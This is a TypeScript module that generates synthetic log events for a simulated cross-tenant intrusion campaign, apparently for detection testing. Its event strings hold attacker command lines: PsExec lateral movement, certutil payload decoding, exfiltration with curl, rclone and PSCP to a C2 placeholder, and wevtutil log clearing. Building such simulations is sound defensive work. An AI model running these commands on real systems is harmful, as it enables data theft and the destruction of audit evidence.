// Campaign stages, hopping on and out: the subsidiary, the macro vector, exfiltration, clean-up,
// cross-tenant logons (campaign.md rows 11, 3, 13, 14, 1).
import type { CampaignContext } from './campaign-context.js';
import {
  secExplicitCredentials,
  secLogCleared,
  secLogon,
  secShareAccess,
  sysLogCleared,
  sysServiceInstalled,
  sysmonDns,
  sysmonNetwork,
  sysmonFromCmd,
  sysmonProcess,
} from './events.js';

const HOUR = 3_600_000;
const MINUTE = 60_000;

/** Hopping on and out: the subsidiary, the macro vector, exfiltration, clean-up, cross-tenant logons (rows 11, 3, 13, 14, 1). */
export function spreadStages(ctx: CampaignContext): void {
  const {
    jp,
    mx,
    jump,
    jpDc,
    jpFs,
    mxFs,
    mxDc,
    mxWs,
    stolenAdmin,
    c2Ip,
    attackerIp,
    dropbox,
    dayAt,
    stage,
    who,
    loaderDir,
    mspTech,
    jpTech,
    mxTech,
    rar,
    lmDay,
  } = ctx;
  // Row 11: lateral movement into the subsidiary with the same technician account (cloud hopping).
  {
    const ev = stage(
      'lateral-movement',
      `Hop into the ${mx.country} subsidiary: RDP and renamed PsExec with the provider account`,
      11,
      ['T1021.001', 'T1021.002', 'T1569.002', 'T1078'],
      mx,
    );
    const t = dayAt(lmDay, 1);
    const psexe = `${loaderDir}\\psexe.exe`;
    ev.push({
      host: jump,
      spec: secExplicitCredentials(jump, t, {
        subject: mspTech,
        target: mxTech,
        server: mxFs.name,
        process: psexe,
        ip: mxFs.ip,
      }),
    });
    ev.push({
      host: jump,
      spec: sysmonFromCmd(jump, t + 1000, {
        image: psexe,
        commandLine: `${psexe} \\\\${mxFs.name} -accepteula -s cmd.exe`,
        user: who(mspTech),
        originalFileName: 'psexec.c',
      }),
    });
    ev.push({
      host: mxFs,
      spec: secLogon(mxFs, t + 2000, {
        account: mxTech,
        logonType: 3,
        ip: jump.ip,
        workstation: jump.name,
        logonId: '0x5d1e02',
        authPackage: 'NTLM',
      }),
    });
    ev.push({ host: mxFs, spec: secShareAccess(mxFs, t + 2500, mxTech, 'ADMIN$', jump.ip) });
    ev.push({
      host: mxFs,
      spec: sysServiceInstalled(mxFs, t + 3000, {
        name: 'PSEXESVC',
        path: '%SystemRoot%\\PSEXESVC.exe',
        sid: mxTech.sid,
      }),
    });
    ev.push({
      host: mxDc,
      spec: secLogon(mxDc, t + 2 * HOUR, {
        account: mxTech,
        logonType: 10,
        ip: jump.ip,
        workstation: jump.name,
        logonId: '0x5d2f17',
      }),
    });
    ev.push({
      host: mxFs,
      spec: sysmonFromCmd(mxFs, t + 3 * HOUR, {
        image: rar,
        commandLine: `${rar} a -hpQx7!mR2v -m5 C:\\$Recycle.Bin\\pp.rar \\\\${mxFs.name}\\Sales\\*`,
        user: who(mxTech),
        originalFileName: 'Rar.exe',
      }),
    });
  }
  // Row 3: the historic vector, a macro document decoding a payload with certutil, in the subsidiary.
  {
    const ev = stage(
      'spearphishing-macro',
      'Macro document decoding a payload with certutil',
      3,
      ['T1566.001', 'T1204.002', 'T1140'],
      mx,
    );
    const t = dayAt(lmDay + 0.05, 10);
    const owner = mxWs.owner ?? mx.users[0];
    ev.push({
      host: mxWs,
      spec: sysmonProcess(mxWs, t, {
        image: 'C:\\Windows\\System32\\certutil.exe',
        commandLine: `certutil -decode C:\\Users\\${owner.user}\\AppData\\Local\\Temp\\inv.txt C:\\Users\\${owner.user}\\AppData\\Local\\Temp\\inv.exe`,
        parentImage: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
        parentCommandLine: `"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "C:\\Users\\${owner.user}\\Downloads\\Factura_2020.doc"`,
        user: who(owner),
        originalFileName: 'CertUtil.exe',
        integrityLevel: 'Medium',
      }),
    });
  }
  // Row 13: exfiltration to cloud storage (renamed curl) and over SCP (PSCP renamed rundll32.exe).
  {
    const ev = stage(
      'exfiltration',
      'Archives uploaded to cloud storage and copied out over SCP',
      13,
      ['T1567.002', 'T1021.004', 'T1048'],
      jp,
    );
    const t = dayAt(0.72, 2);
    const curl = 'C:\\Windows\\Temp\\c.exe';
    ev.push({
      host: jpFs,
      spec: sysmonFromCmd(jpFs, t, {
        image: curl,
        commandLine: `${curl} -k -X POST https://content.dropboxapi.com/2/files/upload --header "Dropbox-API-Arg: {\\"path\\": \\"/bk/ss.part1.rar\\"}" -T C:\\$Recycle.Bin\\ss.part1.rar`,
        user: who(jpTech),
        originalFileName: 'curl.exe',
      }),
    });
    ev.push({
      host: jpFs,
      spec: sysmonDns(jpFs, t + 200, { image: curl, query: 'content.dropboxapi.com', result: dropbox }),
    });
    ev.push({
      host: jpFs,
      spec: sysmonNetwork(jpFs, t + 400, {
        image: curl,
        user: who(jpTech),
        destinationIp: dropbox,
        destinationPort: 443,
        destinationHostname: 'content.dropboxapi.com',
      }),
    });
    const rclone = 'C:\\ProgramData\\rc\\rclone.exe';
    const t3 = dayAt(0.73, 1);
    ev.push({
      host: mxFs,
      spec: sysmonFromCmd(mxFs, t3, {
        image: rclone,
        commandLine: `${rclone} copy C:\\$Recycle.Bin\\pp.rar mega:bk --config C:\\ProgramData\\rc\\rc.conf -q`,
        user: who(mxTech),
        originalFileName: 'rclone.exe',
      }),
    });
    const pscp = 'C:\\ProgramData\\rundll32.exe';
    const t2 = dayAt(0.72, 4);
    ev.push({
      host: jump,
      spec: sysmonFromCmd(jump, t2, {
        image: pscp,
        commandLine: `${pscp} -batch -pw Xu8!kd C:\\ProgramData\\pp.rar sync@${c2Ip}:/srv/u/`,
        user: who(mspTech),
        originalFileName: 'PSCP',
      }),
    });
    ev.push({
      host: jump,
      spec: sysmonNetwork(jump, t2 + 500, {
        image: pscp,
        user: who(mspTech),
        destinationIp: c2Ip,
        destinationPort: 22,
      }),
    });
  }
  // Row 14: clean-up, clearing PowerShell logs and the Security log.
  {
    const ev = stage(
      'log-clearing',
      'PowerShell and Security logs cleared with wevtutil',
      14,
      ['T1070.001', 'T1070.003'],
      jp,
    );
    const t = dayAt(0.74, 3);
    const wevtutil = 'C:\\Windows\\System32\\wevtutil.exe';
    ev.push({
      host: jpFs,
      spec: sysmonFromCmd(jpFs, t, {
        image: wevtutil,
        commandLine: 'wevtutil cl "Windows PowerShell"',
        user: who(jpTech),
        originalFileName: 'wevtutil.exe',
      }),
    });
    ev.push({
      host: jpFs,
      spec: sysmonFromCmd(jpFs, t + 2000, {
        image: wevtutil,
        commandLine: 'wevtutil cl Microsoft-Windows-PowerShell/Operational',
        user: who(jpTech),
        originalFileName: 'wevtutil.exe',
      }),
    });
    ev.push({
      host: jpFs,
      spec: sysLogCleared(jpFs, t + 2100, jpTech, 'Microsoft-Windows-PowerShell/Operational'),
    });
    ev.push({
      host: jpDc,
      spec: sysmonFromCmd(jpDc, t + HOUR, {
        image: wevtutil,
        commandLine: 'wevtutil cl Security',
        user: who(stolenAdmin),
        originalFileName: 'wevtutil.exe',
      }),
    });
    ev.push({ host: jpDc, spec: secLogCleared(jpDc, t + HOUR + 100, stolenAdmin) });
  }
  // The cross-tenant pattern itself, as its own stage: one provider account on hosts of three tenants.
  {
    const ev = stage(
      'cross-tenant-hop',
      'One provider account logging on across the provider, the parent and the subsidiary',
      1,
      ['T1078', 'T1199'],
      mx,
    );
    const t = dayAt(lmDay, 5);
    ev.push({
      host: jpDc,
      spec: secLogon(jpDc, t, {
        account: jpTech,
        logonType: 3,
        ip: jump.ip,
        workstation: jump.name,
        logonId: '0x6e0a41',
        authPackage: 'NTLM',
      }),
    });
    ev.push({
      host: mxDc,
      spec: secLogon(mxDc, t + 30 * MINUTE, {
        account: mxTech,
        logonType: 3,
        ip: jump.ip,
        workstation: jump.name,
        logonId: '0x6e0b52',
        authPackage: 'NTLM',
      }),
    });
    ev.push({
      host: jump,
      spec: secLogon(jump, t - 10 * MINUTE, {
        account: mspTech,
        logonType: 3,
        ip: attackerIp,
        workstation: 'DESKTOP-7G2K1QF',
        logonId: '0x6e0c63',
        authPackage: 'NTLM',
      }),
    });
  }
}
